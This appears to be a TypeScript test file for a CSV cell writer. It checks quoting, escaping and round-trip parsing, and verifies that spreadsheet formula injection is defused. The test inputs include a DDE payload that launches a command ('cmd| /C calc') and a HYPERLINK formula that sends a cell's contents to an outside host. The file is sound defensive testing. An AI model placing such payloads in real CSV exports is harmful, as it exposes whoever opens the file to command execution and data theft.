import { parse } from 'csv-parse/sync';
import { array, assert, constantFrom, integer, oneof, property, string } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './cell.js';

describe('csvCell', () => {
  it.each([
    [null, ''],
    [true, 'true'],
    [-12, '-12'],
    ['-9007199254740993', '-9007199254740993'],
    ['-2.50', '-2.50'],
    ['Corner shop', 'Corner shop'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "no"', '"say ""no"""'],
    ['two\r\nlines', '"two\r\nlines"'],
  ])('writes %j as %j', (value, text) => expect(csvCell(value)).toBe(text));

  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1+1',
    '＝1+1',
    '＠SUM(A1)',
    '-2+3+cmd|’ /C calc’!A0',
    '%0A=1',
    '\u{200B}\u{202E}=1+1',
    '\u{FEFF}=1+1',
    '=HYPERLINK("http://example.org?"&A1,"x")',
  ])('takes the formula out of %j', (value) => expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/));
});

describe('csvRow', () => {
  it('is read back by a reader of RFC 4180, but for the apostrophe before a formula', () => {
    // The library's own unit of all characters takes seconds to make.
    const character = integer({ min: 0, max: 0x10ffff })
      .filter((point) => point < 0xd800 || point > 0xdfff)
      .map((point) => String.fromCodePoint(point));
    const texts = array(
      string({ unit: oneof(character, constantFrom('"', "'", ',', ';', '\t', '\r', '\n', ' ', '=', '-')) }),
      {
        minLength: 1,
        maxLength: 5,
      },
    );
    assert(
      property(texts, (cells) => {
        const [read] = parse(`${csvRow(cells)}end\r\n`, { relax_column_count: true, record_delimiter: '\r\n' });
        const plain = cells.map((cell) =>
          csvCell(cell).replace(/^"/, '').startsWith("'") ? cell.replace(/^'?/, "'") : cell,
        );
        expect(read).toEqual(plain);
      }),
      { seed: 3 },
    );
  });
});
